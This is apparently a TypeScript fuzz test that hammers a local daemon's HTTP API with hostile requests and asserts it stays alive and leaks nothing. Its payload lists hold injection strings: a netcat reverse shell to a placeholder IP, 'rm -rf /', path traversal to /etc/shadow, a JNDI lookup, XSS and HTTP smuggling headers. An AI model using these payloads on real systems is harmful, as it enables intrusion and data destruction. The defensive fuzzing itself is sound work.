// Bounded fuzz of the HTTP API of a real `dbc up` (issue 10): ~20,000 hostile requests across every route
// (src/protocol/routes.ts plus the gateway's own URIs): malformed JSON, wrong types, huge strings, path traversal,
// shell metacharacters, unicode, deep nesting, numbers out of range, forged signatures, odd peer lists, odd methods,
// URIs and Content-Types, and malformed HTTP on raw sockets. Asserts: the daemon stays alive; every reply is a JSON
// envelope {errcode, message} whose HTTP status agrees with it; no stack trace; no host path; RSS stays bounded.
// The failed-auth budgets are off here (--http-auth-fail-limit 0, --wallet-auth-fail-limit 0): every forged signature comes from 127.0.0.1.
import { after, before, describe, test } from 'node:test';
import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import http from 'node:http';
import net from 'node:net';
import { signNonce } from '../../src/cli/sign.js';
import { ROUTES } from '../../src/protocol/routes.js';
import { startDevnet, type Devnet } from '../helpers/devnet.js';

const TOTAL = Number(process.env.DBC_FUZZ_BODIES ?? 20_000);
const RAW = 300; // of TOTAL, malformed HTTP on raw sockets
const CONCURRENCY = 12;
const SEED = Number(process.env.DBC_FUZZ_SEED ?? 0x5eed);

/** a small deterministic PRNG (mulberry32), so a failure can be replayed with DBC_FUZZ_SEED */
function prng(seed: number) {
  let a = seed >>> 0;
  const next = () => {
    a = (a + 0x6d2b79f5) >>> 0;
    let t = a;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
  const int = (n: number) => Math.floor(next() * n);
  const pick = <T>(xs: readonly T[]): T => xs[int(xs.length)]!;
  return { next, int, pick, chance: (p: number) => next() < p };
}

function rssKb(pid: number): number {
  const m = /^VmRSS:\s+(\d+) kB/m.exec(readFileSync(`/proc/${pid}/status`, 'utf8'));
  return m ? Number(m[1]) : 0;
}

const STRINGS = [
  '',
  ' ',
  'undefined',
  'null',
  '0',
  '-1',
  'true',
  '../../../../etc/passwd',
  '..',
  '../',
  '/etc/shadow',
  '/proc/self/environ',
  '..%2F..%2Fetc',
  'a/../../b',
  '$(reboot)',
  '`id`',
  '; rm -rf / #',
  '| nc -e /bin/sh 1.2.3.4 4444',
  '&& touch /pwned',
  "'; DROP TABLE tasks; --",
  '\n\r\tX-Injected: 1',
  '\u0000',
  'a\u0000b',
  '\ud800',
  '\udfff',
  '😀'.repeat(50),
  '\u202e\u0645\u0631\u062d\u0628\u0627',
  'Ω≈ç√∫',
  '%s%s%s%n',
  '{{7*7}}',
  '${jndi:ldap://x/a}',
  '<script>alert(1)</script>',
  '1e309',
  'NaN',
  'Infinity',
  '0x7fffffffffffffff',
  '99999999999999999999999',
  'dbc-test.qcow2',
  'base2.qcow2',
  'data_abcdef_0123456789abcdef.qcow2',
  'x.qcow2/../../node.db',
  'node.db',
  'vms',
  '*',
  '?',
  '~root',
];
const NUMBERS = [0, -1, 1, 65535, 65536, 1e9, -1e9, 1e308, -1e308, 2 ** 53 + 1, 0.5, -0.0, 1e-320];

export function hostileValue(r: ReturnType<typeof prng>, depth = 0): unknown {
  switch (r.int(depth > 2 ? 4 : 9)) {
    case 0:
    case 1:
      return r.pick(STRINGS);
    case 2:
      return r.pick(NUMBERS);
    case 3:
      return r.pick([true, false, null]);
    case 4:
      return r.chance(0.3) ? 'A'.repeat(r.pick([1000, 10_000, 65_536])) : r.pick(STRINGS).repeat(r.int(50) + 1);
    case 5:
      return Array.from({ length: r.int(5) }, () => hostileValue(r, depth + 1));
    case 6: {
      const o: Record<string, unknown> = {};
      for (let i = r.int(5); i > 0; i--) o[r.pick([...STRINGS, '__proto__', 'constructor', 'prototype'])] = hostileValue(r, depth + 1);
      return o;
    }
    case 7:
      return String(r.pick(NUMBERS));
    default:
      return r.pick(STRINGS) + r.pick(STRINGS);
  }
}

const ADDITIONAL_KEYS = [
  'image_name',
  'ssh_port',
  'rdp_port',
  'vnc_port',
  'custom_port',
  'gpu_count',
  'cpu_cores',
  'mem_size',
  'disk_size',
  'data_file_name',
  'operation_system',
  'bios_mode',
  'network_name',
  'public_ip',
  'desc',
  'new_ssh_port',
  'new_vnc_port',
  'new_gpu_count',
  'new_cpu_cores',
  'new_mem_size',
  'password',
  'image_server',
  'image_filename',
  'local_dir',
  'mount_dir',
  'size',
  'disk_name',
  'snapshot_name',
  'task_id',
  'ip_cidr',
  'network_name',
  'multicast',
  'force_reboot',
  'interface_type',
  'vnc_password',
];

/** percent-encode the UTF-8 bytes (lone surrogates included, as U+FFFD) */
const enc = (x: string) =>
  [...Buffer.from(x, 'utf8')]
    .map((b) => (/[A-Za-z0-9._~-]/.test(String.fromCharCode(b)) ? String.fromCharCode(b) : `%${b.toString(16).padStart(2, '0')}`))
    .join('');

function deepNest(n: number, open: string, close: string, inner = '1'): string {
  return open.repeat(n) + inner + close.repeat(n);
}

interface Case {
  method: string;
  path: string;
  headers: Record<string, string>;
  body?: string;
}

function makeCase(r: ReturnType<typeof prng>, ctx: { nodeId: string; wallet: string; seed: string }): Case {
  // --- the URI: every route's path with hostile segments, the gateway's own URIs, and odd ones
  const specs = Object.values(ROUTES);
  const seg = () =>
    r.pick([
      '0123456789abcdefghij',
      'x'.repeat(r.pick([1, 21, 300, 4000])),
      '..',
      '..%2F..%2Fetc',
      '%2e%2e',
      'a%00b',
      '%ff%fe',
      '%F0%9F%98%80',
      '%24(reboot)',
      '%60id%60',
      ';ls',
      'a|b',
      '%0d%0aX:1',
      '%',
      '%zz',
      '*',
      '-',
      '_',
      enc(r.pick(STRINGS)),
    ]);
  let path: string;
  const u = r.int(20);
  if (u < 15) {
    path = r.pick(specs).path.replace(/\{[a-z_]+\}/g, () => (r.chance(0.2) ? '' : seg()));
    if (r.chance(0.15)) path += '/' + seg();
  } else if (u < 17) {
    path = r.pick([
      '/api/v1',
      '/api/v1/',
      '/api/v1/openapi.json',
      '/api/v1/peers/active',
      '/api/v1/peers/global',
      '/api/v1/images/servers',
      '/api/v1/stat',
      '/api/v1/config',
    ]);
  } else {
    path = r.pick([
      '/',
      '',
      '*',
      '/api',
      '/api/v2/tasks',
      '//api/v1/tasks',
      '/api/v1//tasks',
      '/API/V1/TASKS',
      '/api/v1/tasksfoo',
      '/api/v1/tasks/a/b/c/d',
      '/api/v1/../../etc/passwd',
      '/api/v1/tasks/%',
      '/api/v1/tasks/%00',
      '/api/v1/' + 'a/'.repeat(2000),
      '/api/v1/tasks/' + '%41'.repeat(3000),
      '/api/v1/lan/%2F',
      '/api/v1/operations/' + seg(),
      '/api/v1/snapshot/delete/' + seg() + '/' + seg(),
      '/api/v1/images/' + seg(),
      'http://evil.example/api/v1/tasks',
      '/api/v1/tasks#frag',
      '/api/v1/tasks;jsessionid=1',
    ]);
    if (path === '') path = '/';
  }
  if (r.chance(0.2)) {
    path += r.pick([
      '?flag=head&line_num=5',
      '?flag=tail&line_num=-1',
      '?flag=middle',
      '?line_num=99999999999999',
      '?flag=&line_num=',
      '?force_reboot=' + enc(r.pick(STRINGS)),
      '?a=1&a=2&a=3',
      '?%zz=%zz',
      '?' + 'q=1&'.repeat(500),
      '?=&=&',
      '?flag=head&line_num=1e3',
      '?__proto__[x]=1',
    ]);
  }
  if (!path.startsWith('/') && !path.startsWith('http') && path !== '*') path = '/' + path;

  // --- the method
  const method = r.chance(0.85) ? 'POST' : r.pick(['GET', 'PUT', 'DELETE', 'PATCH', 'OPTIONS', 'HEAD', 'FOO', 'PROPFIND', 'TRACE', 'QUERY', 'SEARCH']);

  // --- the body
  const peers = (): unknown =>
    r.pick<unknown>([
      [ctx.nodeId],
      [ctx.nodeId],
      [ctx.nodeId.toUpperCase()],
      [],
      [''],
      [null],
      [1],
      [{}],
      [[ctx.nodeId]],
      ['x'.repeat(64)],
      ['0'.repeat(64)],
      [ctx.nodeId, 'junk'],
      ['../..'],
      [` ${ctx.nodeId}`],
      ctx.nodeId,
      42,
      {},
      null,
      Array.from({ length: 10_000 }, () => ctx.nodeId),
      ['ab'.repeat(32)],
      [r.pick(STRINGS)],
    ]);
  const additional = (): unknown => {
    if (r.chance(0.1)) return hostileValue(r);
    const o: Record<string, unknown> = {};
    for (let i = r.int(8); i > 0; i--) o[r.pick(ADDITIONAL_KEYS)] = hostileValue(r);
    return o;
  };
  const auth = (): Record<string, unknown> => {
    switch (r.int(8)) {
      case 0: // a forged signature by the renter's wallet
        return { wallet: ctx.wallet, nonce: `${Date.now()}${r.int(1e9)}`, sign: '0x' + 'ab'.repeat(64) };
      case 1: // a real signature of one nonce, sent with another (or with a huge one)
        return { ...signNonce(ctx.seed), nonce: r.chance(0.5) ? 'n'.repeat(r.pick([10, 200, 100_000])) : 'other' };
      case 2:
        return { session_id: hostileValue(r), session_id_sign: hostileValue(r) };
      case 3:
        return { multisig_accounts: hostileValue(r) };
      case 4:
        return {
          multisig_accounts: {
            wallets: [ctx.wallet, hostileValue(r)],
            threshold: r.pick(['0', '1', '2', '-1', '999', 'x']),
            signs: [{ wallet: ctx.wallet, nonce: 'n', sign: '0x00' }, hostileValue(r)],
          },
        };
      case 5:
        return { wallet: hostileValue(r), nonce: hostileValue(r), sign: hostileValue(r) };
      case 6:
        return {};
      default:
        return { wallet: ctx.wallet, nonce: 'undefined', sign: 'undefined', session_id: 'undefined' };
    }
  };
  let body: string | undefined;
  const b = r.int(20);
  if (b < 12) {
    const doc: Record<string, unknown> = { peer_nodes_list: peers(), additional: additional(), ...auth() };
    if (r.chance(0.1)) delete doc.peer_nodes_list;
    if (r.chance(0.1)) delete doc.additional;
    if (r.chance(0.1)) doc[r.pick(['peer_nodes_list', 'additional', 'wallet', 'session_id'])] = hostileValue(r);
    body = JSON.stringify(doc);
    if (r.chance(0.05)) body = body.slice(0, r.int(body.length)); // truncated
  } else if (b < 15) {
    body = r.pick([
      '',
      ' ',
      '{',
      '}',
      '[]',
      'null',
      'true',
      '"str"',
      '1e999',
      '-',
      '{"peer_nodes_list":',
      '{"a":1,}',
      "{'a':1}",
      '\ufeff{}',
      'NaN',
      '{"peer_nodes_list":[],"additional":{}}{"x":1}',
      '{"__proto__":{"isAdmin":true},"peer_nodes_list":[]}',
      '\u0000\u0001\u0002',
      Buffer.from(Array.from({ length: 64 }, () => r.int(256))).toString('latin1'),
    ]);
  } else if (b < 17) {
    const n = r.pick([100, 10_000, 100_000]);
    body = r.pick([
      deepNest(n, '[', ']'),
      deepNest(n, '{"a":', '}'),
      `{"peer_nodes_list":["${ctx.nodeId}"],"additional":${deepNest(n, '{"x":', '}')},"wallet":"${ctx.wallet}","nonce":"n","sign":"0x00"}`,
      `{"peer_nodes_list":["${ctx.nodeId}"],"additional":${deepNest(n, '[', ']')}}`,
    ]);
  } else if (b < 18) {
    // a few bodies of megabytes (most 64 KiB, so that 20,000 fit in the time budget)
    const big = r.chance(0.1) ? r.pick([1 << 20, 2 << 20]) : 64 << 10;
    body = JSON.stringify({ peer_nodes_list: [ctx.nodeId], additional: { [r.pick(ADDITIONAL_KEYS)]: 'A'.repeat(big) }, ...auth() });
  } else if (b < 19) {
    body = undefined;
  } else {
    // a valid signature on a read-only route, with hostile path segments and additional
    body = JSON.stringify({ peer_nodes_list: [ctx.nodeId], additional: additional(), ...signNonce(ctx.seed) });
    path = r.pick([
      '/api/v1/tasks',
      `/api/v1/tasks/${seg()}`,
      `/api/v1/tasks/logs/${seg()}?flag=head&line_num=5`,
      `/api/v1/disk/list/${seg()}`,
      `/api/v1/snapshot/list/${seg()}`,
      `/api/v1/operations/${seg()}`,
      '/api/v1/operations',
      `/api/v1/lan/${seg()}`,
      '/api/v1/images/downloadprogress',
      '/api/v1/mining_nodes',
    ]);
  }

  // --- the Content-Type
  const headers: Record<string, string> = {};
  const ct = r.int(16);
  if (ct < 6) headers['content-type'] = 'application/json';
  else if (ct < 14) {
    headers['content-type'] = r.pick([
      'json',
      'text',
      'application/json, text/plain',
      'text/plain',
      'application/x-www-form-urlencoded',
      'multipart/form-data; boundary=--x',
      '',
      ';',
      'application/json; charset=utf-16',
      'application/json; charset="',
      '*/*',
      'a'.repeat(5000),
      'application/xml',
      'image/png',
    ]);
  }
  return { method, path, headers, body };
}

function isEnvelope(v: unknown): v is { errcode: number; message: unknown } {
  return typeof v === 'object' && v !== null && !Array.isArray(v) && typeof (v as { errcode?: unknown }).errcode === 'number' && 'message' in v;
}

describe('fuzz: hostile requests against dbc up', { timeout: 600_000 }, () => {
  let d: Devnet;

  before(async () => {
    d = await startDevnet({ extraArgs: ['--http-auth-fail-limit', '0', '--wallet-auth-fail-limit', '0'] });
  });
  after(async () => {
    await d?.destroy();
  });

  test(`${TOTAL} hostile requests: alive, envelopes only, no stack trace, no host path, bounded RSS`, async () => {
    const pid = d.proc.pid!;
    const url = new URL(d.api);
    const agent = new http.Agent({ keepAlive: true, maxSockets: CONCURRENCY });
    const r = prng(SEED);
    const ctx = { nodeId: d.node_id, wallet: d.renter.wallet, seed: d.renter.seed };
    const hostNeedles = [d.dataDir, '/root', '/tmp/', '/proc/', '/home/', '/work/', '/var/lib'];
    const problems = {
      internal: [] as string[],
      notEnvelope: [] as string[],
      status: [] as string[],
      stack: [] as string[],
      hostPath: [] as string[],
      transport: [] as string[],
    };
    const statuses = new Map<number, number>();
    const errors500 = new Map<string, number>();
    const note = (list: string[], c: Case, what: string) => {
      if (list.length < 20)
        list.push(
          `${c.method} ${c.path.slice(0, 120)} ct=${JSON.stringify(c.headers['content-type'] ?? null)?.slice(0, 40)} body=${(c.body ?? '').slice(0, 120)} -> ${what.slice(0, 400)}`,
        );
    };

    const check = (c: Case, status: number, text: string) => {
      statuses.set(status, (statuses.get(status) ?? 0) + 1);
      if (status >= 500) {
        const key = text.replace(/[0-9a-f]{16,}/g, '<id>').slice(0, 100);
        errors500.set(key, (errors500.get(key) ?? 0) + 1);
      }
      if (text.includes('    at ')) note(problems.stack, c, text);
      const sent = `${c.path}\n${c.body ?? ''}`;
      for (const n of hostNeedles) {
        if (text.includes(n) && !sent.includes(n)) note(problems.hostPath, c, `${n}: ${text}`);
      }
      if (c.method === 'HEAD') return;
      // the web page (docs/ui.md): GET / redirects to /ui/, whose files are HTML, CSS and JS
      if (c.method === 'GET' && status === 302 && /^\/(ui)?(\?|$)/.test(c.path)) return;
      if (c.method === 'GET' && status === 200 && c.path.startsWith('/ui/')) return;
      let v: unknown;
      try {
        v = JSON.parse(text);
      } catch {
        note(problems.notEnvelope, c, `${status} ${text}`);
        return;
      }
      if (status === 200 && typeof v === 'object' && v !== null && 'openapi' in v) return; // /openapi.json
      if (!isEnvelope(v)) {
        note(problems.notEnvelope, c, `${status} ${text}`);
        return;
      }
      // 200: a node reply or ours, any errcode; otherwise a refusal: 4xx/5xx, a non-zero errcode and a text
      const ok = status === 200 || (status >= 400 && status < 600 && v.errcode !== 0 && typeof v.message === 'string');
      if (!ok) note(problems.status, c, `${status} ${text}`);
      // a 5xx is the original's `Unhandled request` (/stat, /config, unknown /tasks verbs) or a timeout; anything
      // else is a failure of ours (e.g. `<op> failed: Maximum call stack size exceeded` for deep nesting)
      if (status >= 500 && !(typeof v.message === 'string' && (v.message === 'Unhandled request' || v.message.endsWith(' timeout'))))
        note(problems.internal, c, `${status} ${text}`);
    };

    const send = (c: Case) =>
      new Promise<void>((resolve) => {
        const req = http.request(
          {
            host: url.hostname,
            port: url.port,
            method: c.method,
            path: c.path,
            agent,
            headers: { ...c.headers, ...(c.body !== undefined ? { 'content-length': String(Buffer.byteLength(c.body)) } : {}) },
          },
          (res) => {
            const chunks: Buffer[] = [];
            res.on('data', (x: Buffer) => chunks.push(x));
            res.on('end', () => {
              check(c, res.statusCode ?? 0, Buffer.concat(chunks).toString('utf8'));
              resolve();
            });
            res.on('error', (e) => {
              note(problems.transport, c, String(e));
              resolve();
            });
          },
        );
        req.setTimeout(60_000, () => req.destroy(new Error('no reply in 60 s')));
        req.on('error', (e: NodeJS.ErrnoException) => {
          // the client library refusing to send (an unescaped path, a bad header) is not the server's fault
          if (e.code !== 'ERR_UNESCAPED_CHARACTERS' && e.code !== 'ERR_INVALID_CHAR' && e.code !== 'ERR_INVALID_HTTP_TOKEN')
            note(problems.transport, c, String(e));
          resolve();
        });
        if (c.body !== undefined) req.end(c.body);
        else req.end();
      });

    // warm up, then take the RSS baseline
    for (let i = 0; i < 200; i++) await send(makeCase(r, ctx));
    const rssStart = rssKb(pid);
    let rssMax = rssStart;
    const sampler = setInterval(() => {
      try {
        rssMax = Math.max(rssMax, rssKb(pid));
      } catch {
        // gone: asserted below
      }
    }, 250);

    const started = Date.now();
    let next = 0;
    const httpCount = TOTAL - RAW - 200;
    await Promise.all(
      Array.from({ length: CONCURRENCY }, async () => {
        while (next < httpCount) {
          next++;
          await send(makeCase(r, ctx));
        }
      }),
    );
    // malformed HTTP on raw sockets: each answered with an envelope or closed, never left hanging
    const rawCases = [
      'GARBAGE\r\n\r\n',
      'POST /api/v1/tasks HTTP/1.1\r\nHost x\r\n\r\n',
      'POST /api/v1/tasks HTTP/9.9\r\nHost: x\r\n\r\n',
      `POST /api/v1/tasks HTTP/1.1\r\nHost: x\r\nX-Big: ${'a'.repeat(70_000)}\r\n\r\n`,
      'POST /api/v1/tasks HTTP/1.1\r\nHost: x\r\nContent-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n',
      'POST /api/v1/tasks HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\nzz\r\nabc\r\n0\r\n\r\n',
      'POST /api/v1/tasks HTTP/1.1\r\nHost: x\r\nContent-Length: -1\r\n\r\n',
      'POST /api/v1/tasks HTTP/1.1\r\nHost: x\r\nContent-Length: 1\r\nContent-Length: 2\r\n\r\nab',
      'CONNECT evil.example:443 HTTP/1.1\r\nHost: evil.example\r\n\r\n',
      'POST /api/v1/t\u00e4sks HTTP/1.1\r\nHost: x\r\n\r\n',
      'POST /api/v1/tasks\u0000 HTTP/1.1\r\nHost: x\r\n\r\n',
      'POST /api/v1/tasks HTTP/1.0\r\nContent-Type: json\r\nContent-Length: 2\r\n\r\n{}',
      'GET http://x/api/v1 HTTP/1.1\r\nHost: x\r\n\r\n',
      'POST /api/v1/tasks HTTP/1.1\r\nHost: x\r\nContent-Type: \u00ff\u00fe\r\nContent-Length: 2\r\n\r\n{}',
      '\r\n\r\n\r\n',
      'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n',
    ];
    const rawSend = (payload: string) =>
      new Promise<void>((resolve) => {
        const c: Case = { method: 'RAW', path: payload.slice(0, 80), headers: {} };
        const s = net.createConnection({ host: url.hostname, port: Number(url.port) });
        const chunks: Buffer[] = [];
        const timer = setTimeout(() => {
          note(problems.transport, c, 'raw request left hanging for 20 s');
          s.destroy();
        }, 20_000);
        s.on('data', (x) => chunks.push(x));
        s.on('error', () => undefined);
        s.on('close', () => {
          clearTimeout(timer);
          const text = Buffer.concat(chunks).toString('latin1');
          if (text) {
            const m = /^HTTP\/1\.[01] (\d{3})[^\r\n]*\r\n([\s\S]*?)\r\n\r\n([\s\S]*)$/.exec(text);
            if (!m) note(problems.notEnvelope, c, text);
            else check(c, Number(m[1]), m[3]!);
          }
          resolve();
        });
        s.end(Buffer.from(payload, 'latin1'));
      });
    for (let i = 0; i < RAW; i += 10) await Promise.all(Array.from({ length: 10 }, (_, j) => rawSend(rawCases[(i + j) % rawCases.length]!)));
    const seconds = (Date.now() - started) / 1000;
    clearInterval(sampler);
    agent.destroy();

    const rssEnd = rssKb(pid);
    const done = TOTAL - 200;
    console.log(
      `fuzz: ${done} requests in ${seconds.toFixed(1)} s (${(done / seconds).toFixed(0)}/s); RSS start ${(rssStart / 1024).toFixed(0)} MB, max ${(rssMax / 1024).toFixed(0)} MB, end ${(rssEnd / 1024).toFixed(0)} MB; ` +
        `statuses ${JSON.stringify(Object.fromEntries([...statuses].sort((a, b) => a[0] - b[0])))}`,
    );
    console.log(`fuzz: 5xx replies ${JSON.stringify(Object.fromEntries(errors500))}`);
    assert.equal(d.proc.exitCode, null, `dbc up died:\n${d.output().slice(-3000)}`);
    const version = await fetch(`${d.api}/api/v1/`);
    assert.equal(version.status, 200, 'still answers');
    assert.deepEqual(problems.transport, [], 'transport failures (hangs, resets)');
    assert.deepEqual(problems.stack, [], 'stack traces in replies');
    assert.deepEqual(problems.internal, [], 'internal failures (5xx other than Unhandled request / timeout)');
    assert.deepEqual(problems.notEnvelope, [], 'replies that are not a JSON envelope');
    assert.deepEqual(problems.status, [], 'HTTP status inconsistent with the envelope');
    assert.deepEqual(problems.hostPath, [], 'host paths in replies');
    assert.ok(rssMax < 2 * rssStart + 100 * 1024, `RSS grew from ${rssStart} kB to ${rssMax} kB`);
    assert.ok(seconds < 120, `took ${seconds} s`);
  });
});
